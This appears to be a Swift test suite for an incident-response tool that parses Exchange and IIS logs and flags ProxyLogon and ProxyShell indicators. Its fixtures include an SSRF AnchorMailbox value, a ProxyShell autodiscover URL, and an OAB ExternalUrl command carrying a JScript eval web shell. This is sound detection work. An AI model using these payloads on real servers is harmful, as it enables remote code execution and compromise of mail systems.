import Foundation
import Testing
@testable import IncidentCore

@Suite("HttpProxyParser")
struct HttpProxyParserTests {
    static let anchor = "ServerInfo~a]@exch01.corp.example:444/mapi/emsmdb/?#"

    @Test func bareHeaderBeforeDirectives() throws {
        // Exchange's own order: field names first, then #Software … #Fields, then data.
        let lines = HttpProxyLog.lines(["AnchorMailbox": Self.anchor, "ClientIpAddress": "104.140.114.110",
                                        "DateTime": "2021-03-03T06:44:22.904Z"])
        var parser = HttpProxyParser()
        for (i, line) in lines.dropLast().enumerated() { #expect(parser.parse(line, line: i + 1) == nil) }
        let rParsed = parser.parse(lines.last!, line: 7)
        let r = try #require(rParsed)
        #expect(r.line == 7)
        #expect(r.value("AnchorMailbox") == Self.anchor)
        #expect(r.value("anchormailbox") == Self.anchor)
        #expect(r.value("UrlStem") == "/ecp/PersonalSettings/HomePage.aspx")
        #expect(r.value("UserAgent") == HttpProxyLog.browserUA)
        #expect(r.value("RoutingStatus") == "")
        #expect(r.clientIP == "104.140.114.110")
        #expect(r.value("user-agent") == HttpProxyLog.browserUA)
        #expect(r.value("url-stem") == "/ecp/PersonalSettings/HomePage.aspx")
        #expect(r.value("status") == "200")
        #expect(r.value("method") == "GET")
        #expect(r.displayName("client-ip") == "ClientIpAddress")
        #expect(r.time == Timestamps.parse("2021-03-03T06:44:22.904Z"))
        #expect(r.raw == lines.last!)
        #expect(parser.warnings.isEmpty)
    }

    @Test func headerAfterDirectives() throws {
        let lines = HttpProxyLog.directives.dropLast() + [HttpProxyLog.headerLine, HttpProxyLog.row(["AnchorMailbox": Self.anchor])]
        let records = parseAll(Array(lines), format: .httpProxy)
        try #require(records.count == 1)
        #expect(records[0].line == 6)
        #expect(records[0].value("AnchorMailbox") == Self.anchor)
    }

    @Test func fieldsDirectiveAlone() throws {
        let lines = ["#Software: Microsoft Exchange Server", "#Fields: DateTime,AnchorMailbox,HttpStatus",
                     "2021-03-03T06:44:22.904Z,\(Self.anchor),200"]
        let records = parseAll(lines, format: .httpProxy)
        try #require(records.count == 1)
        #expect(records[0].value("HttpStatus") == "200")
        #expect(records[0].value("AnchorMailbox") == Self.anchor)
    }

    @Test func columnsBoundByNameCaseInsensitivelyWithReorderedHeader() throws {
        let lines = [
            "httpstatus,ANCHORMAILBOX,UrlStem,datetime,CLIENTIPADDRESS,useragent,Method",
            "241,\(Self.anchor),/ecp/y.js,2021-03-03T06:44:25.117Z,104.140.114.110,ExchangeServicesClient/0.0.0.0,POST",
        ]
        let r = try #require(parseAll(lines, format: .httpProxy).first)
        #expect(r.line == 2)
        #expect(r.value("AnchorMailbox") == Self.anchor)
        #expect(r.value("HttpStatus") == "241")
        #expect(r.value("DateTime") == "2021-03-03T06:44:25.117Z")
        #expect(r.time == Timestamps.parse("2021-03-03T06:44:25.117Z"))
        #expect(r.clientIP == "104.140.114.110")
        #expect(r.value("user-agent") == "ExchangeServicesClient/0.0.0.0")
        #expect(r.displayName("AnchorMailbox") == "ANCHORMAILBOX")
        #expect(r.displayName("client-ip") == "CLIENTIPADDRESS")
        // The rules find their fields whatever the header's case and order.
        let engine = try builtInEngine()
        #expect(ids(engine.match(r, format: .httpProxy)) == ["PL-001", "UA-057", "IP-054"])
        let pl001 = try #require(engine.match(r, format: .httpProxy).first { $0.id == "PL-001" })
        #expect(r.displayName(pl001.field) == "ANCHORMAILBOX")
    }

    @Test func rowsBeforeAnyHeaderAndMismatchedRowsAreCounted() {
        var parser = HttpProxyParser()
        #expect(parser.parse("2021-03-03T06:44:25.117Z,x,y", line: 1) == nil)
        #expect(parser.parse("DateTime,AnchorMailbox,HttpStatus", line: 2) == nil)
        let short = parser.parse("2021-03-03T06:44:25.117Z,Smtp~a@b", line: 3)
        #expect(short?.value("AnchorMailbox") == "Smtp~a@b")
        #expect(short?.value("HttpStatus") == nil)
        #expect(parser.parse("", line: 4) == nil)
        #expect(parser.warnings == ["1 row(s) with a different number of values than the header",
                                    "1 row(s) before any header were not checked"])
    }

    /// A data row is attacker-influenced: `UserAgent` and `AnchorMailbox` (X-AnchorMailbox header)
    /// come straight from the request. A request with `User-Agent: DateTime` and
    /// `X-AnchorMailbox: AnchorMailbox` must stay a data row and must not become the file's header
    /// (which would rename every column for the rows that follow and blind the rules on them).
    @Test func dataRowCannotReplaceTheHeader() throws {
        let injected = HttpProxyLog.row(["UserAgent": "DateTime", "AnchorMailbox": "AnchorMailbox",
                                         "ClientIpAddress": "198.51.100.9"])
        let attack = HttpProxyLog.row(["AnchorMailbox": "ServerInfo~a]@exch01.corp.example:444/ecp/proxyLogon.ecp?#",
                                       "HttpStatus": "241", "UrlStem": "/ecp/y.js", "Method": "POST",
                                       "UserAgent": "ExchangeServicesClient/0.0.0.0", "ClientIpAddress": "104.140.114.110"])
        let lines = [HttpProxyLog.headerLine] + HttpProxyLog.directives + [injected, attack]
        let engine = try builtInEngine()
        // Without the injected row the attack row is fully recognised.
        let control = try #require(parseAll([HttpProxyLog.headerLine] + HttpProxyLog.directives + [attack], format: .httpProxy).last)
        #expect(ids(engine.match(control, format: .httpProxy)) == ["PL-001", "PL-008", "UA-057", "IP-054"])
        let records = parseAll(lines, format: .httpProxy)
        #expect(records.map(\.line) == [7, 8])
        let last = try #require(records.last)
        #expect(last.clientIP == "104.140.114.110")
        #expect(last.value("HttpStatus") == "241")
        #expect(ids(engine.match(last, format: .httpProxy)) == ["PL-001", "PL-008", "UA-057", "IP-054"])
    }
}

@Suite("ECPServerParser")
struct ECPServerParserTests {
    @Test func eventDataPairsSplitOnlyBeforeKeys() {
        let pairs = ECPServerParser.eventDataPairs("S:A=1;S:B=x;y;S:C=2")
        #expect(pairs.map(\.0) == ["S:A", "S:B", "S:C"])
        #expect(pairs.map(\.1) == ["1", "x;y", "2"])
        #expect(ECPServerParser.eventDataPairs("").isEmpty)
        #expect(ECPServerParser.eventDataPairs("no pairs here").isEmpty)
        let empty = ECPServerParser.eventDataPairs("S:REQID=;S:ACID=")
        #expect(empty.map(\.0) == ["S:REQID", "S:ACID"])
        #expect(empty.map(\.1) == ["", ""])
    }

    @Test func singleQuotedCommandPair() {
        let data = ECPLog.eventData(cmd: ECPLog.maliciousCmd)
        let pairs = ECPServerParser.eventDataPairs(data)
        #expect(pairs.map(\.0) == ["S:TIME", "S:SID", "S:CMD", "S:REQID", "S:URL", "S:REFERRER", "S:EX", "S:ACTID", "S:RS",
                                   "S:BLD", "S:TNAME", "S:TID", "S:USID", "S:EDOID", "S:ACID"])
        let cmd = pairs.first { $0.0 == "S:CMD" }?.1
        // Outer single quotes removed, doubled inner ones kept as written.
        #expect(cmd == "Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>''.Identity=''75398931-1d13-477b-8b83-cc114d86a7c7''")
        #expect(pairs.first { $0.0 == "S:URL" }?.1 == "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=\(ECPLog.canary)&schema=OABVirtualDirectory")
        #expect(pairs.first { $0.0 == "S:TNAME" }?.1 == "<null>")
    }

    @Test func recordsFromTheRealLineShape() throws {
        let lines = ECPLog.lines(cmd: ECPLog.maliciousCmd)
        let records = parseAll(lines, format: .ecpServer)
        try #require(records.count == 1)
        let r = records[0]
        #expect(r.line == 6)
        #expect(r.value("TimeStamp") == "2021-03-03T06:44:34.917Z")
        #expect(r.value("ServerName") == "EXCH01")
        #expect(r.value("EventId") == "ECP.Request")
        #expect(r.value("EventData") == ECPLog.eventData(cmd: ECPLog.maliciousCmd))
        #expect(r.value("S:CMD")?.hasPrefix("Set-OabVirtualDirectory.ExternalUrl=''http://f/<script") == true)
        #expect(r.value("s:bld") == "15.1.2106.2")
        #expect(r.time == Timestamps.parse("2021-03-03T06:44:34.917Z"))
    }

    @Test func defaultLayoutWithoutFieldsAndReorderedFields() throws {
        let plain = parseAll(["2021-03-02T14:20:16.502Z,EXCH01,ECP.Request,S:CMD=Get-InboxRule;S:RS=0"], format: .ecpServer)
        #expect(plain.first?.value("S:CMD") == "Get-InboxRule")
        #expect(plain.first?.value("S:RS") == "0")
        let reordered = parseAll(["#Fields: EventData,TimeStamp,EventId,ServerName",
                                  "S:CMD=Get-InboxRule,2021-03-02T14:20:16.502Z,ECP.Request,EXCH01"], format: .ecpServer)
        #expect(reordered.first?.value("ServerName") == "EXCH01")
        #expect(reordered.first?.value("S:CMD") == "Get-InboxRule")
        #expect(reordered.first?.time == Timestamps.parse("2021-03-02T14:20:16.502Z"))
    }
}

@Suite("OABGeneratorParser")
struct OABGeneratorParserTests {
    @Test func downloadPathCapturedWithItsQuotes() throws {
        let path = "'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx'"
        let records = parseAll(OABLog.lines(path: path), format: .oabGenerator)
        try #require(records.count == 1)
        #expect(records[0].line == 6)
        #expect(records[0].value("DownloadPath") == path)
        #expect(records[0].value("Message") == OABLog.row(path: path))
        #expect(records[0].time == Timestamps.parse("2021-03-03T06:45:12.345Z"))
    }

    @Test func otherLines() throws {
        var parser = OABGeneratorParser()
        #expect(parser.parse("#Log-type: OABGenerator Log", line: 1) == nil)
        #expect(parser.parse("", line: 2) == nil)
        let plainParsed = parser.parse("2021-03-03T06:45:12.345Z Generation of OAB 'Default Offline Address Book' completed", line: 3)
        let plain = try #require(plainParsed)
        #expect(plain.value("DownloadPath") == nil)
        #expect(plain.time == Timestamps.parse("2021-03-03T06:45:12.345Z")) // a bare leading timestamp
        let bareParsed = parser.parse("Download failed and temporary file \\\\10.0.0.5\\share\\a.aspx needs to be removed", line: 4)
        let bare = try #require(bareParsed)
        #expect(bare.value("DownloadPath") == "\\\\10.0.0.5\\share\\a.aspx")
        let caselessParsed = parser.parse("download FAILED and temporary file 'x' NEEDS to be removed", line: 5)
        let caseless = try #require(caselessParsed)
        #expect(caseless.value("DownloadPath") == "'x'")
        let noTailParsed = parser.parse("Download failed and temporary file 'x' could not be removed", line: 6)
        let noTail = try #require(noTailParsed)
        #expect(noTail.value("DownloadPath") == nil)
    }
}

@Suite("W3CParser")
struct W3CParserTests {
    @Test func defaultFieldsAndAliases() throws {
        let lines = IISLog.lines("POST", "/ecp/y.js", query: "&CorrelationID=<empty>;&cafeReqId=dd8cddb7;", ip: "104.140.114.110",
                                 ua: "ExchangeServicesClient/0.0.0.0")
        let r = try #require(parseAll(lines, format: .iisW3C).first)
        #expect(r.line == 5)
        #expect(r.value("cs-method") == "POST")
        #expect(r.value("cs-uri-stem") == "/ecp/y.js")
        #expect(r.value("cs-uri-query") == "&CorrelationID=<empty>;&cafeReqId=dd8cddb7;")
        #expect(r.value("cs-uri") == "/ecp/y.js?&CorrelationID=<empty>;&cafeReqId=dd8cddb7;")
        #expect(r.value("c-ip") == "104.140.114.110")
        #expect(r.clientIP == "104.140.114.110")
        #expect(r.value("user-agent") == "ExchangeServicesClient/0.0.0.0")
        #expect(r.displayName("user-agent") == "cs(User-Agent)")
        #expect(r.value("url-stem") == "/ecp/y.js")
        #expect(r.value("status") == "200")
        #expect(r.value("sc-win32-status") == "0")
        #expect(r.time == Timestamps.parse("2021-03-03 06:44:21"))
        let noQuery = try #require(parseAll(IISLog.lines("GET", "/owa/"), format: .iisW3C).first)
        #expect(noQuery.value("cs-uri") == "/owa/")
    }

    @Test func fieldsChangeMidFile() throws {
        let lines = IISLog.header + [
            IISLog.line("GET", "/owa/"),
            "#Software: Microsoft Internet Information Services 10.0",
            "#Fields: date time c-ip cs-method cs-uri-stem sc-status cs(User-Agent)",
            "2021-03-03 07:00:00 104.140.114.110 POST /ecp/y.js 200 ExchangeServicesClient/0.0.0.0",
        ]
        var parser = W3CParser()
        var records: [LogRecord] = []
        for (i, line) in lines.enumerated() { if let r = parser.parse(line, line: i + 1) { records.append(r) } }
        try #require(records.count == 2)
        #expect(records[0].line == 5)
        #expect(records[0].value("s-ip") == "10.0.0.21")
        #expect(records[1].line == 8)
        #expect(records[1].value("c-ip") == "104.140.114.110")
        #expect(records[1].value("cs-method") == "POST")
        #expect(records[1].value("cs-uri-stem") == "/ecp/y.js")
        #expect(records[1].value("sc-status") == "200")
        #expect(records[1].value("s-ip") == nil)
        #expect(records[1].time == Timestamps.parse("2021-03-03 07:00:00"))
        #expect(parser.warnings.isEmpty)
    }

    @Test func headerlessDefaultLayout() throws {
        var parser = W3CParser()
        let line = "2021-08-23 09:13:18 172.28.30.86 POST /autodiscover/autodiscover.json @a.a/powershell/?&Email=autodiscover/autodiscover.json%3F@a.a 443 - 10.255.249.78 Python+PSRP+Client - 200 0 0 55"
        let rParsed = parser.parse(line, line: 1)
        let r = try #require(rParsed)
        #expect(r.value("cs-uri-stem") == "/autodiscover/autodiscover.json")
        #expect(r.value("c-ip") == "10.255.249.78")
        #expect(r.value("cs(User-Agent)") == "Python+PSRP+Client")
        #expect(r.value("time-taken") == "55")
        #expect(parser.warnings == ["no #Fields header: 1 line(s) read with the IIS default field layout"])
    }

    @Test func unreadableHeaderlessLine() {
        var parser = W3CParser()
        #expect(parser.parse("2021-08-23 09:13:18 172.28.30.86 POST /x", line: 1) == nil)
        #expect(parser.parse("a b c d e f g h i j k l m n o", line: 2) == nil) // 15 tokens, no date
        #expect(parser.parse("", line: 3) == nil)
        #expect(parser.parse("   ", line: 4) == nil)
        #expect(parser.warnings == ["2 line(s) not read: no #Fields header and not the IIS default layout"])
    }

    @Test func mismatchedFieldCountIsCounted() throws {
        var parser = W3CParser()
        _ = parser.parse("#Fields: date time cs-method cs-uri-stem sc-status", line: 1)
        let rParsed = parser.parse("2021-03-03 06:00:00 GET /owa/", line: 2)
        let r = try #require(rParsed)
        #expect(r.value("cs-uri-stem") == "/owa/")
        #expect(r.value("sc-status") == nil)
        #expect(parser.warnings == ["1 line(s) whose field count differs from #Fields"])
    }
}

@Suite("FileInventoryParser")
struct FileInventoryParserTests {
    static let path = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\error.aspx"

    @Test func windowsPowerShell51WithTypeLine() throws {
        let records = parseAll(Inventory.lines(path: Self.path), format: .fileInventory)
        try #require(records.count == 1)
        let r = records[0]
        #expect(r.line == 3)
        #expect(r.value("Algorithm") == "SHA256")
        #expect(r.value("Hash") == Inventory.benignHash)
        #expect(r.value("Path") == Self.path)
        #expect(r.value("FileName") == "error.aspx")
    }

    @Test func powerShell7WithoutTypeLineAndReorderedColumns() throws {
        let lines = ["\"Path\",\"Algorithm\",\"Hash\"",
                     "\"C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx\",\"SHA256\",\"B75F163CA9B9240BF4B37AD92BC7556B40A17E27C2B8ED5C8991385FE07D17D0\"",
                     "\"/srv/evidence/exch01/web.config\",\"SHA256\",\"00\""]
        let records = parseAll(lines, format: .fileInventory)
        try #require(records.count == 2)
        #expect(records[0].line == 2)
        #expect(records[0].value("FileName") == "discover.aspx")
        #expect(records[0].value("Hash") == "B75F163CA9B9240BF4B37AD92BC7556B40A17E27C2B8ED5C8991385FE07D17D0")
        #expect(records[1].value("FileName") == "web.config")
    }

    @Test func otherAlgorithmsAreCounted() {
        var parser = FileInventoryParser()
        _ = parser.parse("Algorithm,Hash,Path", line: 1)
        _ = parser.parse("MD5,D41D8CD98F00B204E9800998ECF8427E,C:\\x.aspx", line: 2)
        _ = parser.parse("SHA256,E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,C:\\y.aspx", line: 3)
        #expect(parser.warnings == ["1 row(s) hashed with another algorithm than SHA256 (hash indicators need SHA256)"])
    }

    @Test func noRecordsBeforeAHeader() {
        var parser = FileInventoryParser()
        #expect(parser.parse("\"SHA256\",\"AB\",\"C:\\x\"", line: 1) == nil)
        #expect(parser.parse("#TYPE Microsoft.Powershell.Utility.FileHash", line: 2) == nil)
    }
}

@Suite("FormatDetector")
struct FormatDetectorTests {
    @Test(arguments: [
        (HttpProxyLog.lines([:]), EvidenceFormat.httpProxy),
        (Array(HttpProxyLog.directives.prefix(3)), .httpProxy), // #Log-type: HttpProxy Logs
        (["#Fields: DateTime,RequestId,AnchorMailbox,HttpStatus"], .httpProxy),
        ([HttpProxyLog.headerLine], .httpProxy),
        (ECPLog.lines(cmd: ECPLog.readCmd), .ecpServer),
        (["#Fields: TimeStamp,ServerName,EventId,EventData"], .ecpServer),
        (OABLog.lines(path: OABLog.benignTemp), .oabGenerator),
        ([OABLog.row(path: OABLog.benignTemp)], .oabGenerator),
        (IISLog.lines("GET", "/owa/"), .iisW3C),
        (Array(IISLog.header.suffix(1)), .iisW3C),
        ([IISLog.line("GET", "/owa/")], .iisW3C),
        (Inventory.lines(path: "C:\\x.aspx"), .fileInventory),
        (["\"Algorithm\",\"Hash\",\"Path\""], .fileInventory),
        (["Hash,Path,Size"], .fileInventory),
    ])
    func recognisedByContent(_ lines: [String], _ format: EvidenceFormat) {
        #expect(FormatDetector.detect(lines) == .recognised(format))
        #expect(FormatDetector.parser(for: format)?.format == format)
    }

    @Test func binaryJunkEmptyAndPlainText() {
        let junk = randomBytes(count: 4096, seed: 7)
        let lines = junk.withUnsafeBufferPointer { LineSplitter.split($0, encoding: .utf8, atEOF: true).lines.map(\.text) }
        #expect(FormatDetector.detect(lines) == .unrecognised("binary content, not a known evidence format; not checked"))
        #expect(FormatDetector.detect([]) == .unrecognised("empty file; not checked"))
        #expect(FormatDetector.detect(["hello", "world", ""]) == .unrecognised("format not recognised from its first lines; not checked"))
        #expect(FormatDetector.detect(["#just a comment"]) == .unrecognised("format not recognised from its first lines; not checked"))
    }

    @Test func onlyTheFirstLinesAreExamined() {
        let lines = Array(repeating: "noise", count: FormatDetector.linesExamined) + IISLog.header
        #expect(FormatDetector.detect(lines) == .unrecognised("format not recognised from its first lines; not checked"))
    }
}
